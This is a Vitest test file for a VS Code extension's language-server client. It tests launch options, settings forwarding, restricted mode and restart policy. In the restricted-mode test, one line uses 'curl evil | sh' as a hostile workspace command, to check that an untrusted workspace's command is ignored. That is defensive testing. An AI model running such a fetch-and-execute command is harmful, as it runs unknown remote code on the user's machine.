/** Settings -> server launch and initializationOptions; restricted mode; restarts. */
import { afterEach, describe, expect, it, vi } from 'vitest';

import { RestartPolicy } from '../src/client';
import { launchProblem } from '../src/launch';
import { EXTENSION_PATH, activated, lastClient, mock, settle, shutdown } from './helpers';
import { CloseAction, LanguageClient } from './mocks/languageclient';

vi.mock('../src/launch', async (importOriginal) => {
    const original = await importOriginal<typeof import('../src/launch')>();
    return { ...original, launchProblem: vi.fn(async () => undefined) };
});

const BUNDLED = `${EXTENSION_PATH}/bundled/serve.py`;
let context: Awaited<ReturnType<typeof activated>> | undefined;

afterEach(async () => {
    if (context) {
        await shutdown(context);
        context = undefined;
    }
});

describe('server launch', () => {
    it('runs the bundled server with python3 from PATH by default', async () => {
        context = await activated();
        expect(lastClient().serverOptions).toEqual({ command: 'python3', args: ['-I', BUNDLED] });
        expect(lastClient().id).toBe('verify');
    });

    it('runs the bundled server with verify.server.interpreter when set', async () => {
        mock.set('verify.server.interpreter', '/opt/py3.12/bin/python');
        context = await activated();
        expect(lastClient().serverOptions).toEqual({ command: '/opt/py3.12/bin/python', args: ['-I', BUNDLED] });
    });

    it('runs verify.server.path instead of any interpreter', async () => {
        mock.set('verify.server.interpreter', '/opt/py3.12/bin/python');
        mock.set('verify.server.path', '/usr/local/bin/lsp-verify');
        context = await activated();
        expect(lastClient().serverOptions).toEqual({ command: '/usr/local/bin/lsp-verify', args: [] });
    });

    it('writes the server version to the output channel once it started', async () => {
        context = await activated();
        expect(mock.state.outputLines).toContain('[info] server: lsp-verify 9.8.7');
    });

    it('puts every file: document in the selector', async () => {
        context = await activated();
        expect(lastClient().clientOptions.documentSelector).toEqual([{ scheme: 'file' }]);
    });

    it('starts nothing without a workspace folder, and starts once one is added', async () => {
        mock.state.folders = undefined;
        context = await activated();
        expect(LanguageClient.instances).toHaveLength(0);
        expect(mock.statusItem.visible).toBe(false);
        mock.state.folders = [];
        mock.state.folders.push((await import('./mocks/vscode')).Uri.file('/work/later'));
        mock.state.events.folders.fire({});
        await settle();
        expect(LanguageClient.instances).toHaveLength(1);
        expect(mock.statusItem.visible).toBe(true);
    });

    it('shows a server that failed to start in the status bar, adding no second notification', async () => {
        LanguageClient.failStart = new Error('Server initialization failed.');
        context = await activated();
        expect(mock.statusItem.text).toBe('$(error) verify: server not running');
        expect(mock.statusItem.tooltip).toBe('The verify server did not start: Error: Server initialization failed.');
        // languageclient itself reports a failed start; the extension must not add to it.
        expect(mock.state.messages).toEqual([]);
    });
});

describe('initializationOptions', () => {
    it('carries only the settings the user set, and the trust flag', async () => {
        mock.set('verify.runOn', 'manual');
        mock.set('verify.globs', ['*.py'], 'workspaceValue');
        context = await activated();
        expect(lastClient().clientOptions.initializationOptions).toEqual({
            verify: { runOn: 'manual', globs: ['*.py'] },
            workspaceTrusted: true,
            diagnosticMode: 'push',
            liveOutput: true,
        });
    });

    it('leaves out VS Code defaults so .lsp-verify.toml is not overridden', async () => {
        context = await activated();
        expect(lastClient().clientOptions.initializationOptions).toEqual({
            verify: {},
            workspaceTrusted: true,
            diagnosticMode: 'push',
            liveOutput: true,
        });
    });

    it('never sends the client-only server settings', async () => {
        mock.set('verify.server.interpreter', '/usr/bin/python3');
        mock.set('verify.trace.server', 'verbose');
        mock.set('verify.command', 'make check');
        context = await activated();
        expect(lastClient().clientOptions.initializationOptions).toEqual({
            verify: { command: 'make check' },
            workspaceTrusted: true,
            diagnosticMode: 'push',
            liveOutput: true,
        });
    });
});

describe('workspace/configuration', () => {
    it('answers section verify per folder with the setting keys set for that folder', async () => {
        mock.set('verify.timeoutMs', 5000);
        mock.setForFolder('file:///work/b', 'verify.command', 'cargo test');
        context = await activated();
        const configuration = lastClient().clientOptions.middleware?.workspace?.configuration;
        expect(configuration).toBeDefined();
        const next = vi.fn(() => [{ server: { path: '' } }, { server: { path: '' } }, 'other']);
        const answer = await configuration?.(
            {
                items: [
                    { section: 'verify', scopeUri: 'file:///work/a' },
                    { section: 'verify', scopeUri: 'file:///work/b' },
                    { section: 'editor', scopeUri: 'file:///work/a' },
                ],
            },
            {},
            next,
        );
        // A folder's own command is the workspace's (the repository's), so it is marked as such.
        expect(answer).toEqual([{ timeoutMs: 5000 }, { timeoutMs: 5000, workspaceCommand: 'cargo test' }, 'other']);
    });
});

describe('restricted mode', () => {
    it('tells the server the workspace is not trusted, and ignores the workspace command', async () => {
        mock.state.trusted = false;
        mock.set('verify.command', 'curl evil | sh', 'workspaceValue');
        context = await activated();
        const options = lastClient().clientOptions.initializationOptions as {
            verify: Record<string, unknown>;
            workspaceTrusted: boolean;
        };
        expect(options.workspaceTrusted).toBe(false);
        // VS Code hides the workspace's value of a restricted setting; null unsets the command.
        expect(options.verify.command ?? null).toBeNull();
        expect(mock.statusItem.text).toBe('$(shield) verify: Restricted Mode');
    });

    it('sends workspaceTrusted: true when the user grants trust, without a restart', async () => {
        mock.state.trusted = false;
        context = await activated();
        const client = lastClient();
        mock.grantTrust();
        await settle();
        expect(LanguageClient.instances).toHaveLength(1);
        expect(client.sent).toEqual([
            {
                method: 'workspace/didChangeConfiguration',
                params: { settings: { verify: {}, workspaceTrusted: true } },
            },
        ]);
        expect(mock.statusItem.text).not.toContain('Restricted');
    });

    it('restarts when granting trust lets a workspace interpreter take effect', async () => {
        mock.state.trusted = false;
        mock.set('verify.server.interpreter', '/work/project/.venv/bin/python', 'workspaceValue');
        context = await activated();
        expect(lastClient().serverOptions).toMatchObject({ command: 'python3' });
        mock.grantTrust();
        await settle();
        expect(LanguageClient.instances).toHaveLength(2);
        expect(lastClient().serverOptions).toMatchObject({ command: '/work/project/.venv/bin/python' });
        expect(lastClient().clientOptions.initializationOptions).toMatchObject({ workspaceTrusted: true });
    });
});

describe('settings changes', () => {
    it('re-sends settings without a restart when a setting key changes', async () => {
        context = await activated();
        mock.change(['verify.runOn'], () => mock.set('verify.runOn', 'manual'));
        await settle();
        expect(LanguageClient.instances).toHaveLength(1);
        expect(lastClient().sent).toEqual([
            {
                method: 'workspace/didChangeConfiguration',
                params: { settings: { verify: { runOn: 'manual' }, workspaceTrusted: true } },
            },
        ]);
    });

    it('restarts the server with the new interpreter when verify.server.interpreter changes', async () => {
        context = await activated();
        const first = lastClient();
        mock.change(['verify.server.interpreter'], () => mock.set('verify.server.interpreter', '/usr/bin/python3.12'));
        await settle();
        expect(first.state).not.toBe(2);
        expect(LanguageClient.instances).toHaveLength(2);
        expect(lastClient().serverOptions).toMatchObject({ command: '/usr/bin/python3.12' });
        // The server's commands moved to the new client instead of failing as duplicates.
        expect(mock.state.registered.has('verify.runNow')).toBe(true);
    });
});

describe('an interpreter that cannot run the server', () => {
    it('gives one error notification that says what to set, and starts no client', async () => {
        const problem =
            'verify cannot start its server: python3 (from PATH) was not found. Set verify.server.interpreter ...';
        vi.mocked(launchProblem).mockResolvedValueOnce(problem);
        context = await activated();
        expect(LanguageClient.instances).toHaveLength(0);
        expect(mock.state.messages).toEqual([
            { kind: 'error', message: problem, actions: ['Open Settings', 'Show Output'] },
        ]);
        expect(mock.statusItem.text).toBe('$(error) verify: server not running');
        expect(mock.statusItem.tooltip).toBe(problem);
        expect(mock.statusItem.command?.command).toBe('verify.showOutput');
    });

    it('tries again once the setting is changed', async () => {
        vi.mocked(launchProblem).mockResolvedValueOnce('too old');
        context = await activated();
        mock.change(['verify.server.interpreter'], () => mock.set('verify.server.interpreter', '/usr/bin/python3.11'));
        await settle();
        expect(LanguageClient.instances).toHaveLength(1);
        expect(lastClient().serverOptions).toMatchObject({ command: '/usr/bin/python3.11' });
    });
});

describe('RestartPolicy', () => {
    it('never restarts a server that died while starting', () => {
        const giveUp = vi.fn();
        const policy = new RestartPolicy(giveUp);
        expect(policy.closed()).toEqual({ action: CloseAction.DoNotRestart, handled: true });
        expect(giveUp).not.toHaveBeenCalled();
    });

    it('restarts a running server three times in three minutes, then gives up with one message', () => {
        let now = 0;
        const giveUp = vi.fn();
        const policy = new RestartPolicy(giveUp, () => now);
        policy.reachedRunning = true;
        const actions = [1, 2, 3, 4].map(() => {
            now += 1000;
            return policy.closed().action;
        });
        expect(actions).toEqual([
            CloseAction.Restart,
            CloseAction.Restart,
            CloseAction.Restart,
            CloseAction.DoNotRestart,
        ]);
        expect(giveUp).toHaveBeenCalledOnce();
    });

    it('forgets crashes older than three minutes', () => {
        let now = 0;
        const policy = new RestartPolicy(vi.fn(), () => now);
        policy.reachedRunning = true;
        for (let i = 0; i < 3; i += 1) {
            now += 1000;
            policy.closed();
        }
        now += 3 * 60 * 1000;
        expect(policy.closed().action).toBe(CloseAction.Restart);
    });
});
